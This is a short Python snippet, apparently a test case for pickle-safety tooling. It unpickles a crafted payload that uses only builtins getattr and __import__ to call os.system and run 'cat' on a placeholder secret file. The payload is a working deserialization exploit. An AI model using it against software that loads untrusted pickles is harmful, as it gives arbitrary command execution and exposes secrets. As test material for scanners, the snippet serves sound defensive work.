# A pickle that only uses builtins: getattr and __import__.
# effect: run
import pickle
pickle.loads(b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(Vos\ntRVsystem\ntR(Vcat @SECRET@\ntR.")
